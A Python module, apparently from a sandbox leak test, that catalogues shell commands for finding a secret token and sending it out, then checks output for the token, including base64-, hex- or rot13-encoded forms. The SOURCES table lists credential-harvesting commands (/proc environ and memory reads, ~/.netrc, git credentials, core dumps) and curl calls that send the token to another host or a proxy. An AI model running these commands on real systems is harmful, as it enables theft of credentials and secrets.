"""Scripts that try to get hold of a secret, as data: where it might be, and how it would be carried off."""

from __future__ import annotations

import codecs
import re
from base64 import b64decode, b64encode
from binascii import Error
from collections.abc import Iterator
from zlib import decompress, error

SOURCES = {
    "the variable": 'printf %s "$API_TOKEN"',
    "env": "env",
    "printenv": "printenv API_TOKEN",
    "set": "set",
    "export": "export -p; declare -p",
    "other names": "env | grep -i -e real -e token -e secret -e key",
    "own environ": "cat /proc/self/environ",
    "every environ": "cat /proc/[0-9]*/environ",
    "the parent's environ": 'cat "/proc/$PPID/environ"; cat /proc/1/environ',
    "every command line": "cat /proc/[0-9]*/cmdline; ps auxeww",
    "threads": "cat /proc/[0-9]*/task/*/environ",
    "descriptors": 'for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 4096 "$f" < /dev/null; done',
    "settings": 'cat ~/.handiwork/config.yaml "$HANDIWORK_HOME"/* ~/.config/*/* ~/.netrc ~/.git-credentials ~/.npmrc',
    "git": "git config -l --show-origin; git credential fill < /dev/null; cat ~/.gitconfig",
    "start-up files": "cat ~/.bashrc ~/.profile ~/.bash_history /etc/environment",
    "temporary files": 'cat /tmp/* /tmp/*/* /dev/shm/* /var/tmp/* "$TMPDIR"/*',
    "the bundle": 'cat "$SSL_CERT_FILE" "$CURL_CA_BUNDLE"; ls -la "$(dirname "$SSL_CERT_FILE")"',
    "the file": 'cat "$SECRET_FILE"; cp "$SECRET_FILE" stolen; ln "$SECRET_FILE" stolen; cat stolen',
    "searching": 'grep -rs canary ~ . /tmp /run /home --include="*" -m 3',
    "memory of others": "for p in /proc/[0-9]*; do head -c 65536 $p/mem; cat $p/maps; done",
    "a core": "ulimit -c unlimited; sleep 0.01 & kill -SEGV $!; wait; cat core* /tmp/core*",
    "gdb": 'gdb -p "$PPID" -batch -ex "info proc"; gcore "$PPID"',
    "python": "/usr/bin/python3 -c 'import os; print(dict(os.environ), open(\"/proc/self/environ\").read())'",
    "node": "node -e 'console.log(process.env)'",
    "perl": "perl -e 'print map {\"$_=$ENV{$_}\\n\"} keys %ENV'",
    "awk": "awk 'BEGIN { for (n in ENVIRON) print n, ENVIRON[n] }'",
    "a subshell": "env -i sh -c 'echo $API_TOKEN'; sh -c 'echo ${API_TOKEN#x}'",
    "xtrace": 'set -x; : "$API_TOKEN"',
    "the bound host's echo": 'curl -sS -H "X: $API_TOKEN" "$URL"',
    "its echo of a login": 'curl -sS -u "me:$API_TOKEN" "$URL"',
    "its echo of a body": 'curl -sS -d "$API_TOKEN" "$URL"; curl -sS -F "f=$API_TOKEN" "$URL"',
    "its echo of a query": 'curl -sS "$URL?t=$API_TOKEN"; curl -sS "$URL$API_TOKEN"',
    "a trace of curl": 'curl -sS --trace - -H "X: $API_TOKEN" "$URL"',
    "another host": 'curl -sS -H "X: $API_TOKEN" "$OTHER"; curl -sS -d "$API_TOKEN" "$OTHER"',
    "another host by its name alone": 'curl -sS -H "Host: $OTHER_HOST" -H "X: $API_TOKEN" "$URL"',
    "an absolute target": 'curl -sS --request-target "$OTHER" -H "X: $API_TOKEN" "$URL"',
    "the proxy": 'curl -sS -H "X: $API_TOKEN" "$https_proxy"; curl -sS "$https_proxy/environ"',
    "no proxy": 'curl -sS --noproxy "*" -k -H "X: $API_TOKEN" "$URL"',
    "a ranged echo": 'curl -sS -r 0-9 -H "X: $API_TOKEN" "$URL" --compressed',
    "pieces": "for i in 1 2 3 4 5 6 7 8; do printf '%s\\n' \"${API_TOKEN:$i:9}\"; done",
}
CARRIERS = ("cat", "base64 -w0", "xxd -p", "rev", "tr A-Za-z N-ZA-Mn-za-m")


def scripts() -> Iterator[tuple[str, str]]:
    """For each source, a script that carries off what it gives in every way, and leaves it in a file."""
    for source, text in SOURCES.items():
        ways = "; ".join(f"{carrier} < got; echo" for carrier in CARRIERS)
        yield source, f"{{ {text}; }} > got 2>&1; {{ {ways}; }} 2>&1 | tee -a loot"


def is_in(canary: str, data: bytes) -> bool:
    """Whether *data* holds a piece of *canary*, plain or carried off."""
    piece = canary[10:28]
    return any(piece.encode() in seen for seen in _readings(data))


def _readings(data: bytes) -> Iterator[bytes]:
    text = data.decode("latin-1")
    bare = re.sub(r"\s", "", text)
    for seen in (text, bare):
        yield from (
            seen.encode("latin-1"),
            seen[::-1].encode("latin-1"),
            codecs.encode(seen, "rot13").encode("latin-1"),
        )
    for run in re.findall(r"[0-9a-fA-F]{36,}", bare):
        yield bytes.fromhex(run[: len(run) // 2 * 2])
        yield bytes.fromhex(run[1 : 1 + (len(run) - 1) // 2 * 2])
    for run in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text):
        for start in range(4):
            yield _unpacked(run[start:].rstrip("="))


def _unpacked(run: str) -> bytes:
    try:
        packed = b64decode(run[: len(run) // 4 * 4])
    except Error:
        return b""
    try:
        return packed + decompress(packed, 47)
    except error:
        return packed


def encoded(canary: str) -> tuple[bytes, ...]:
    """What a login with it looks like."""
    return (canary.encode(), b64encode(f"me:{canary}".encode()))
